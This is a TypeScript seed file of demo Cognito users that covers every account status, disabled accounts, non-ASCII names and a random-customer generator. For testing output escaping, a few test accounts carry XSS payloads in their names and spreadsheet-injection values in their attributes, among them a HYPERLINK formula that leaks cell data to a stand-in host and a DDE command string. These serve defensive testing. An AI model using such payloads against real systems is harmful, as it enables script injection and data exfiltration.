import type { Random } from '../model/random';

/** A user as the seed puts it (CognitoIdp.putUser input, with createdAt as days before now). */
export interface DemoUser {
  username: string;
  attributes: Record<string, string>;
  status: 'UNCONFIRMED' | 'CONFIRMED' | 'FORCE_CHANGE_PASSWORD' | 'RESET_REQUIRED';
  enabled?: boolean;
  password?: string;
  groups?: string[];
  daysAgo: number;
}

const person = (
  email: string,
  name: string,
  status: DemoUser['status'],
  daysAgo: number,
  extra: Partial<DemoUser> & { attributes?: Record<string, string> } = {},
): DemoUser => {
  const [given, ...rest] = name.split(' ');
  return {
    username: email,
    status,
    daysAgo,
    ...extra,
    attributes: {
      email,
      email_verified: status === 'UNCONFIRMED' ? 'false' : 'true',
      name,
      ...(given ? { given_name: given } : {}),
      ...(rest.length > 0 ? { family_name: rest.join(' ') } : {}),
      ...extra.attributes,
    },
  };
};

/**
 * The hand-written part of the demo pool: every status, disabled users, custom attributes,
 * non-ASCII names, and values that must render as text (markup) or be neutralised in CSV
 * exports (formulas).
 */
export function handcraftedUsers(credentials: {
  operator: { email: string; password: string };
  nonAdmin: { email: string; password: string };
  newAdmin: { email: string; temporaryPassword: string };
  adminGroup: string;
}): DemoUser[] {
  const { operator, nonAdmin, newAdmin, adminGroup } = credentials;
  return [
    person(operator.email, 'Ada Admin', 'CONFIRMED', 420, {
      password: operator.password,
      groups: [adminGroup, 'support'],
      attributes: { 'custom:plan': 'enterprise', 'custom:tenant': 'acme' },
    }),
    person(nonAdmin.email, 'Uma User', 'CONFIRMED', 300, {
      password: nonAdmin.password,
      groups: ['beta-testers'],
      attributes: { 'custom:plan': 'pro', 'custom:tenant': 'acme' },
    }),
    person(newAdmin.email, 'Noel Newadmin', 'FORCE_CHANGE_PASSWORD', 1, {
      password: newAdmin.temporaryPassword,
      groups: [adminGroup],
      attributes: { email_verified: 'true', 'custom:tenant': 'acme' },
    }),
    person('support@example.com', 'Sam Support', 'CONFIRMED', 380, {
      password: 'Support-Passw0rd!',
      groups: ['support'],
      attributes: { 'custom:tenant': 'acme' },
    }),

    // Customers who signed up but never confirmed.
    person('liam.chen@example.org', 'Liam Chen', 'UNCONFIRMED', 0, { attributes: { 'custom:plan': 'free' } }),
    person('olivia.martin@example.org', 'Olivia Martin', 'UNCONFIRMED', 2, { attributes: { 'custom:plan': 'free' } }),
    person('noah.kim@example.net', 'Noah Kim', 'UNCONFIRMED', 9, { attributes: { 'custom:plan': 'pro', 'custom:tenant': 'kimco' } }),
    person('ava.johnson@example.org', 'Ava Johnson', 'UNCONFIRMED', 31),

    // Confirmed customers.
    person('emma.wilson@example.org', 'Emma Wilson', 'CONFIRMED', 365, {
      password: 'Emma-Passw0rd!',
      groups: ['beta-testers'],
      attributes: { 'custom:plan': 'pro', 'custom:tenant': 'wilson-labs', phone_number: '+15555550101', phone_number_verified: 'true' },
    }),
    person('james.brown@example.net', 'James Brown', 'CONFIRMED', 340, { attributes: { 'custom:plan': 'free' } }),
    person('sofia.garcia@example.org', 'Sofía García', 'CONFIRMED', 280, { attributes: { 'custom:plan': 'enterprise', 'custom:tenant': 'garcia-y-asociados' } }),
    person('jose.alvarez@example.net', 'José Álvarez', 'CONFIRMED', 260, { attributes: { 'custom:plan': 'pro' } }),
    person('zoe.mueller@example.de', 'Zoë Müller', 'CONFIRMED', 244, { attributes: { locale: 'de-DE', 'custom:plan': 'free' } }),
    person('asa.odegard@example.no', 'Åsa Ødegård', 'CONFIRMED', 201, { attributes: { locale: 'nb-NO' } }),
    person('li.xiaolong@example.cn', '李 小龍', 'CONFIRMED', 190, { attributes: { locale: 'zh-CN', 'custom:plan': 'pro' } }),
    person('aiko.tanaka@example.jp', 'Aiko Tanaka', 'CONFIRMED', 150, { groups: ['beta-testers'], attributes: { locale: 'ja-JP' } }),
    person('mohammed.alsayed@example.org', 'Mohammed Al-Sayed', 'CONFIRMED', 120, { attributes: { 'custom:plan': 'enterprise', 'custom:tenant': 'alsayed-trading' } }),
    person('chloe.dubois@example.fr', 'Chloé Dubois', 'CONFIRMED', 95, { attributes: { locale: 'fr-FR', phone_number: '+33555550102', phone_number_verified: 'false' } }),
    person('lucas.silva@example.com.br', 'Lucas Silva', 'CONFIRMED', 60, { attributes: { 'custom:plan': 'free' } }),
    person('hannah.schmidt@example.de', 'Hannah Schmidt', 'CONFIRMED', 44),
    person('oliver.taylor@example.co.uk', "Oliver O'Brien-Taylor", 'CONFIRMED', 33, { attributes: { 'custom:plan': 'pro' } }),
    person('grace.lee@example.org', 'Grace Lee', 'CONFIRMED', 21, { groups: ['support'], attributes: { 'custom:tenant': 'acme' } }),
    person('ethan.nguyen@example.net', 'Ethan Nguyen', 'CONFIRMED', 14, { groups: ['beta-testers'] }),
    person('mia.rossi@example.it', 'Mia Rossi', 'CONFIRMED', 7, { attributes: { 'custom:plan': 'free' } }),
    person(
      'maximilian.von.hohenzollern-sigmaringen@example.de',
      'Maximilian Alexander Friedrich von Hohenzollern-Sigmaringen',
      'CONFIRMED',
      180,
      { attributes: { 'custom:plan': 'enterprise', 'custom:tenant': 'a-tenant-with-a-rather-long-identifier-0001' } },
    ),

    // Invited by an administrator, not signed in yet.
    person('priya.patel@example.com', 'Priya Patel', 'FORCE_CHANGE_PASSWORD', 3, { password: 'Invite-Passw0rd!', attributes: { 'custom:tenant': 'acme' } }),
    person('contractor@example.net', 'Casey Contractor', 'FORCE_CHANGE_PASSWORD', 12, { password: 'Invite-Passw0rd!' }),

    // Password reset required by an administrator.
    person('marco.rossi@example.org', 'Marco Rossi', 'RESET_REQUIRED', 210, { attributes: { 'custom:plan': 'pro' } }),
    person('fatima.zahra@example.net', 'Fatima Zahra', 'RESET_REQUIRED', 88),

    // Disabled accounts.
    person('former.employee@example.com', 'Frank Former', 'CONFIRMED', 500, { enabled: false, groups: ['support'], attributes: { 'custom:tenant': 'acme' } }),
    person('spam.account@example.net', 'Spam Account', 'UNCONFIRMED', 40, { enabled: false }),
    person('chargeback@example.org', 'Chris Chargeback', 'CONFIRMED', 150, { enabled: false, attributes: { 'custom:plan': 'pro' } }),

    // Values that must stay text: markup in names, spreadsheet formulas in attributes.
    person('xss.test@example.com', '<img src=x onerror=alert(1)>', 'CONFIRMED', 66, {
      attributes: { given_name: '<script>alert("x")</script>', family_name: '"><svg onload=alert(2)>', 'custom:plan': 'free' },
    }),
    person('csv.injection@example.com', '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', 'CONFIRMED', 55, {
      attributes: { given_name: '=1+2', family_name: '@SUM(A1:A9)', 'custom:tenant': '+cmd|\' /C calc\'!A0' },
    }),
    person('minus.sign@example.com', '-2+3', 'UNCONFIRMED', 5, { attributes: { 'custom:tenant': '\t=tab-prefixed' } }),
  ];
}

const FIRST = ['Alex', 'Sam', 'Jordan', 'Taylor', 'Morgan', 'Casey', 'Riley', 'Jamie', 'Avery', 'Quinn', 'Maria', 'Wei', 'Yuki', 'Ahmed', 'Elena', 'Kofi', 'Ingrid', 'Raj', 'Lucía', 'Mateo', 'Anna', 'Omar', 'Sara', 'Ivan', 'Nora', 'Leo', 'Maya', 'Felix', 'Amara', 'Hugo'];
const LAST = ['Smith', 'Garcia', 'Chen', 'Okafor', 'Ivanova', 'Müller', 'Kowalski', 'Haddad', 'Sato', 'Johansson', 'Silva', 'Nguyen', 'Patel', 'Cohen', 'Rossi', 'Dubois', 'Kim', 'Novak', 'Andersen', 'Mensah'];
const DOMAINS = ['example.net', 'example.org', 'example.com'];
const PLANS = ['free', 'free', 'free', 'pro', 'pro', 'enterprise'];

/**
 * `count` generated customers, deterministic for a given Random: mostly confirmed, some in every
 * other status, some disabled, created over the last three years.
 */
export function* generatedUsers(count: number, random: Random): Generator<DemoUser> {
  for (let i = 1; i <= count; i++) {
    const first = FIRST[random.int(FIRST.length)]!;
    const last = LAST[random.int(LAST.length)]!;
    const roll = random.int(100);
    const status: DemoUser['status'] = roll < 85 ? 'CONFIRMED' : roll < 93 ? 'UNCONFIRMED' : roll < 97 ? 'FORCE_CHANGE_PASSWORD' : 'RESET_REQUIRED';
    const email = `${ascii(first)}.${ascii(last)}.${i}@${DOMAINS[i % DOMAINS.length]}`.toLowerCase();
    const attributes: Record<string, string> = {
      email,
      email_verified: status === 'UNCONFIRMED' ? 'false' : 'true',
      name: `${first} ${last}`,
      given_name: first,
      family_name: last,
      'custom:plan': PLANS[random.int(PLANS.length)]!,
      'custom:tenant': `tenant-${String(random.int(400)).padStart(3, '0')}`,
    };
    if (random.int(10) < 3) {
      attributes.phone_number = `+1555${String(random.int(10_000_000)).padStart(7, '0')}`;
      attributes.phone_number_verified = random.int(2) === 0 ? 'true' : 'false';
    }
    yield { username: email, attributes, status, enabled: random.int(100) >= 3, daysAgo: random.int(3 * 365) };
  }
}

function ascii(text: string): string {
  return text.normalize('NFD').replace(/[^a-zA-Z]/g, '');
}
